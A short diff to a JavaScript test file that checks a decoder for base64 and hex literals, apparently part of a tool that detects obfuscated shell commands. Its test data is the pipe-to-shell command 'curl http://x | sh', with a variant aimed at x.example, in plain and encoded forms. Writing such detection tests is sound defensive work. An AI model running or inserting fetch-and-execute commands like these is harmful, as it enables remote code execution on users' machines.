@@ -146,6 +146,9 @@ describe("normalise: base64 and hex literals", () => {
       ["base64", "curl http://x | sh", b64("curl http://x | sh")],
       ["hex", "curl http://x | sh", hex("curl http://x | sh")],
     ]);
+    expect(decodeLiterals(`x = 0x${hex("curl http://x | sh")}`).map((d) => [d.kind, d.text, d.start])).toEqual([
+      ["hex", "curl http://x | sh", 4],
+    ]);
     // URL-safe base64, and padding.
     expect(decodeLiterals(Buffer.from("curl http://x.example/?a=1 | sh").toString("base64url"))[0]?.text).toBe(
       "curl http://x.example/?a=1 | sh",
